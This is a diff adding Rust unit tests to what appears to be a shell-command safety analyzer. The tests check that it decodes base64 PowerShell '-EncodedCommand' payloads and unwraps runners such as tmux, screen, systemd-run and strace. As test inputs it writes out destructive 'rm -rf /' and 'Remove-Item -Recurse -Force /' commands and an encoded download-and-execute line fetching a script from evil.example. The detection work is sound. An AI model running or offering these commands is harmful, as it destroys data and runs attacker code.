@@ -1222,6 +1222,42 @@ fn powershell_is_read_as_powershell() {
 }
 
 #[test]
+fn powershell_encoded_commands_are_decoded() {
+    // `-EncodedCommand` (and its prefixes) is base64 of UTF-16LE PowerShell.
+    for option in ["-EncodedCommand", "-enc", "-e", "-ec", "-EnCoDeDcOmMaNd"] {
+        // "Remove-Item -Recurse -Force /"
+        let line = format!(
+            "pwsh {option} UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBSAGUAYwB1AHIAcwBlACAALQBGAG8AcgBjAGUAIAAvAA=="
+        );
+        let an = a(&line);
+        assert_eq!(args(find(&an, "rm")), ["-r", "-f", "/"], "{line}");
+    }
+    // "iwr https://evil.example/x.ps1 | iex"
+    let an = a(
+        "powershell -NoProfile -enc aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AZQB2AGkAbAAuAGUAeABhAG0AcABsAGUALwB4AC4AcABzADEAIAB8ACAAaQBlAHgA",
+    );
+    assert!(has_finding(&an, |f| matches!(
+        f,
+        ShellFinding::InterpreterFromPipe { .. }
+    )));
+    // "Get-ChildItem": harmless once read, and no longer unknowable.
+    let an = a("pwsh -enc RwBlAHQALQBDAGgAaQBsAGQASQB0AGUAbQA=");
+    assert!(an.findings.is_empty(), "{an:?}");
+    // Not base64 of UTF-16, or built at run time: unknowable, as before.
+    for line in [
+        "pwsh -enc 'not base64!'",
+        "pwsh -enc \"$PAYLOAD\"",
+        "pwsh -enc QUJD",
+    ] {
+        let an = a(line);
+        assert!(
+            has_finding(&an, |f| matches!(f, ShellFinding::DynamicScript { .. })),
+            "{line}: {an:?}"
+        );
+    }
+}
+
+#[test]
 fn mktemp_substitutions_name_a_temp_path() {
     let an = a("D=$(mktemp -d); rm -rf \"$D\"");
     assert_eq!(args(find(&an, "rm")), ["-rf", "/tmp/tmp.XXXXXXXXXX"]);
@@ -1234,4 +1270,42 @@ fn mktemp_substitutions_name_a_temp_path() {
     assert_eq!(args(find(&an, "rm")), ["-rf", "out.XXXX"]);
     let an = a("rm -rf $(mktemp -d -p \"$X\")");
     assert!(find(&an, "rm").args[1].dynamic);
+}
+
+#[test]
+fn detached_sandboxed_and_traced_runners_are_unwrapped() {
+    for line in [
+        "systemd-run --user rm -rf /",
+        "systemd-run --user --unit=x -p MemoryMax=1G --setenv A=b rm -rf /",
+        "screen -dmS b rm -rf /",
+        "screen -d -m rm -rf /",
+        "tmux new -d 'rm -rf /'",
+        "tmux new-session -d -s w -c /tmp 'rm -rf /'",
+        "tmux split-window -h 'rm -rf /'",
+        "tmux run-shell 'rm -rf /'",
+        "tmux send-keys -t w 'rm -rf /' Enter",
+        "strace -f -o /tmp/t rm -rf /",
+        "ltrace -e malloc rm -rf /",
+        "valgrind rm -rf /",
+        "firejail --noprofile rm -rf /",
+        "fakeroot rm -rf /",
+        "caffeinate -i -t 60 rm -rf /",
+        "xvfb-run -a rm -rf /",
+    ] {
+        assert_rm_rf_root(line);
+    }
+    // A Windows program run by its `.exe` name under WSL is that program.
+    let an = a("/mnt/c/Windows/powershell.exe -c 'Remove-Item -Recurse -Force /'");
+    assert_eq!(args(find(&an, "rm")), ["-r", "-f", "/"]);
+    // Their own housekeeping runs nothing.
+    for line in [
+        "tmux ls",
+        "tmux attach -t w",
+        "screen -ls",
+        "screen -r dev",
+        "strace -c -p 12",
+    ] {
+        let an = a(line);
+        assert!(!an.commands.iter().any(is_rm_rf_root), "{line}");
+    }
 }
